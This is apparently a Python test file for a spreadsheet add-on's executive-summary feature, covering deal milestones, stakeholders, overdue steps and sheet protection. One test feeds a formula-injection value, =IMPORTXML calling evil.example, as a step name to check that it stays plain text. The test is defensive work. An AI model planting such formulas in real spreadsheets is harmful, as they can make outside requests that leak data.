"""The Executive summary a champion forwards: true to the plan, readable on its own.

Checked on plans made from the shipped templates, as the product creates them.
"""

from __future__ import annotations

import copy
from datetime import date, timedelta
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from shipped_plans import PLAN_DAY, TEMPLATES, fresh_steps

from addon.domain.businessdays import add_business_days, business_days_between
from addon.domain.exec_summary import (
    MAX_NEEDED,
    MAX_TEXT,
    NOT_WRITTEN,
    SummaryFacts,
    summary_lines,
)
from addon.domain.layout_deal import GO_LIVE_LABEL, SIGNING_LABEL, long_day
from addon.domain.layout_summary import (
    SECTION,
    SUMMARY_ROWS,
    summary_protection,
    summary_rows,
)
from addon.domain.model import Milestone
from addon.domain.plan_status import status_lines

TEMPLATE = TEMPLATES["mid-market"]
HOLIDAYS = frozenset(TEMPLATE.holidays)
PEOPLE = [
    {"name": "Ann Buyer", "email": "ann@buyer.example", "side": "Buyer", "role": "Champion"},
    {"name": "Bob Money", "email": "bob@buyer.example", "side": "Buyer", "role": "Economic buyer"},
    {"name": "Sam Seller", "email": "seller@seller.example", "side": "Seller", "role": None},
]


def plan_snapshot() -> dict[str, Any]:
    _, steps = fresh_steps("mid-market")
    go_live = next(s["due"] for s in steps if s["id"] == "go-live")
    signature = next(s["due"] for s in steps if s["id"] == "signature")
    return {
        "steps": steps,
        "deal": {
            "goal": "Cut month-end close\nfrom 9 days to 4",
            "success_criteria": None,
            "go_live": go_live,
            "signature_target": signature,
        },
        "stakeholders": copy.deepcopy(PEOPLE),
    }


def committed(snapshot: dict[str, Any]) -> dict[Milestone, date | None]:
    deal = snapshot["deal"]
    return {
        Milestone.SIGNATURE: date.fromisoformat(deal["signature_target"]),
        Milestone.GO_LIVE: date.fromisoformat(deal["go_live"]),
    }


def summary_lines_of(snapshot: dict[str, Any], today: date) -> list[tuple[str, str]]:
    agreed = committed(snapshot)
    facts = SummaryFacts("Finance rollout", "Buyer Co", agreed, today)
    outlook = status_lines(snapshot, TEMPLATE, today, agreed)
    return list(summary_lines(snapshot, TEMPLATE, facts, outlook))


def lines_of(snapshot: dict[str, Any], today: date) -> dict[str, str]:
    return dict(summary_lines_of(snapshot, today))


def test_a_fresh_plan_says_why_when_who_and_what_is_needed() -> None:
    snapshot = plan_snapshot()
    lines = lines_of(snapshot, PLAN_DAY)
    assert lines["Executive summary"] == "Finance rollout, for Buyer Co"
    assert lines["As of"].startswith("Monday 1 March 2027")
    assert lines["Goal"] == "Cut month-end close from 9 days to 4"  # the buyer's words, one line
    assert lines["Success criteria"] == NOT_WRITTEN
    go_live = committed(snapshot)[Milestone.GO_LIVE]
    assert go_live is not None
    assert lines["What slips have cost"] == f"Nothing so far: go-live holds at {go_live:%A} " + (
        f"{go_live.day} {go_live:%B} {go_live.year}."
    )
    assert lines["Buyer Co"] == "Ann Buyer (Champion), Bob Money (Economic buyer)"
    assert lines["Our team"] == "Sam Seller"
    assert lines["Progress"] == f"0 of {len(snapshot['steps'])} steps done."
    signing = committed(snapshot)[Milestone.SIGNATURE]
    assert signing is not None
    away = business_days_between(PLAN_DAY, signing, HOLIDAYS)
    assert lines["Next milestone"].startswith("Signing on ")
    assert lines["Next milestone"].endswith(f": {away} business days away.")
    # the steps due in the next four weeks, by their date, each with who owes it
    due_soon = [
        s
        for s in snapshot["steps"]
        if date.fromisoformat(s["due"]) <= PLAN_DAY + timedelta(weeks=4)
    ]
    assert due_soon, "a fresh mid-market plan has work due in its first four weeks"
    assert "Needed by Monday 29 March 2027" in lines
    # several steps may share a due date (parallel tracks): read the lines as a list
    texts = [text for _, text in summary_lines_of(snapshot, PLAN_DAY)]
    for step in due_soon[:MAX_NEEDED]:
        assert any(text.startswith(f"{step['name']}: ") for text in texts), step["name"]


def test_a_slip_says_what_it_cost_and_the_outlook_lines_agree() -> None:
    snapshot = plan_snapshot()
    terms = next(s for s in snapshot["steps"] if s["id"] == "terms-review")
    agreed = committed(snapshot)
    signing = agreed[Milestone.SIGNATURE]
    assert signing is not None
    terms["due"] = add_business_days(signing, 10, HOLIDAYS).isoformat()  # past signing
    lines = lines_of(snapshot, PLAN_DAY)
    assert "moves from" in lines["Signing"]
    cost = lines["What slips have cost"]
    assert cost.startswith("Go-live has moved ")
    outlook = status_lines(snapshot, TEMPLATE, PLAN_DAY, agreed)
    assert lines["Signing"] == outlook[SIGNING_LABEL]
    assert lines["Go-live"] == outlook[GO_LIVE_LABEL]
    moved = int(cost.split("moved ")[1].split(" business")[0])
    assert f"({moved} business days later)" in outlook[GO_LIVE_LABEL]


def test_overdue_steps_come_first_and_done_steps_count() -> None:
    snapshot = plan_snapshot()
    first, second = snapshot["steps"][:2]
    first["status"] = "Done"
    today = date.fromisoformat(second["due"]) + timedelta(days=7)
    lines = lines_of(snapshot, today)
    assert lines["Progress"].startswith(f"1 of {len(snapshot['steps'])} steps done, ")
    assert lines["Progress"].endswith(" overdue.")
    labels = list(lines)
    needed = labels[labels.index(next(k for k in labels if k.startswith("Needed by "))) + 1 :]
    assert needed[0] == f"Overdue, was due {long_day(date.fromisoformat(second['due']))}"
    assert not any(text.startswith(f"{first['name']}: ") for text in lines.values())


def test_owners_are_named_and_typed_formulas_stay_text() -> None:
    snapshot = plan_snapshot()
    step = snapshot["steps"][0]
    step["owner"] = "ann@buyer.example"
    step["name"] = '=IMPORTXML("https://evil.example","//a")'
    lines = lines_of(snapshot, PLAN_DAY)
    texts = list(lines.values())
    assert any(t.startswith('=IMPORTXML("https://evil.example","//a"): Ann Buyer (') for t in texts)
    rows = summary_rows(list(lines.items()))
    cells = [c for row in rows for c in row["values"]]
    assert all("formulaValue" not in c.get("userEnteredValue", {}) for c in cells)


def test_the_tab_is_the_whole_grid_with_bold_sections_and_only_the_addon_writes_it() -> None:
    lines = list(lines_of(plan_snapshot(), PLAN_DAY).items())
    rows = summary_rows([*lines, ("Why", SECTION)])
    assert len(rows) == SUMMARY_ROWS  # empty rows clear what an older, longer summary left
    heading = rows[len(lines)]["values"]
    assert heading[0]["userEnteredFormat"]["textFormat"]["bold"] is True
    assert "userEnteredValue" not in heading[1]
    protection = summary_protection("svc@example.iam", "seller@seller.example", 5)
    assert protection["warningOnly"] is False
    assert protection["editors"] == {"users": ["svc@example.iam", "seller@seller.example"]}


TEXT = st.text(max_size=600)


@settings(max_examples=60, deadline=None)
@given(
    goal=st.one_of(st.none(), TEXT),
    names=st.lists(TEXT, max_size=30),
    owner=st.one_of(st.none(), TEXT),
    side=st.sampled_from(["Buyer", "Seller", "Both", "", "nonsense"]),
    status=st.sampled_from(["Done", "In progress", "Not started", "", "???"]),
    offset=st.integers(-60, 200),
)
def test_any_plan_gives_short_plain_lines_within_the_grid(
    goal: str | None,
    names: list[str],
    owner: str | None,
    side: str,
    status: str,
    offset: int,
) -> None:
    snapshot = plan_snapshot()
    snapshot["deal"]["goal"] = goal
    for index, name in enumerate(names):
        snapshot["steps"].append(
            {
                "id": f"x{index}",
                "name": name,
                "owner": owner,
                "owner_side": side,
                "status": status,
                "due": (PLAN_DAY + timedelta(days=offset + index)).isoformat(),
            }
        )
    today = PLAN_DAY + timedelta(days=offset)
    agreed = committed(snapshot)
    facts = SummaryFacts("Finance rollout", "Buyer Co", agreed, today)
    lines = summary_lines(
        snapshot, TEMPLATE, facts, status_lines(snapshot, TEMPLATE, today, agreed)
    )
    assert len(lines) <= SUMMARY_ROWS
    for label, text in lines:
        assert isinstance(label, str) and isinstance(text, str)
        assert len(text) <= MAX_TEXT and "\n" not in text


def test_a_deal_named_after_its_buyer_is_not_named_twice() -> None:
    snapshot = plan_snapshot()
    agreed = committed(snapshot)
    outlook = status_lines(snapshot, TEMPLATE, PLAN_DAY, agreed)
    facts = SummaryFacts("Buyer Co finance rollout", "Buyer Co", agreed, PLAN_DAY)
    lines = dict(summary_lines(snapshot, TEMPLATE, facts, outlook))
    assert lines["Executive summary"] == "Buyer Co finance rollout"
